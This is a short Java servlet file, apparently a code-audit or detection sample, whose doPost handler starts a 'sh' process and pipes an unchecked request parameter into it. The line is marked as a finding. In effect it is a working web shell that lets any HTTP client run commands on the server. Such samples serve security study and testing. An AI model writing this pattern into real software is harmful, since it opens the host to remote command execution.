// A shell runs what it is written to.
package shop.web;

import java.io.IOException;
import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;

public class Desk extends HttpServlet {
    @Override
    protected void doPost(HttpServletRequest request, HttpServletResponse response)
            throws IOException {
        Process shell = Runtime.getRuntime().exec("sh"); // <-- finding
        shell.getOutputStream().write(request.getParameter("given").getBytes());
    }
}
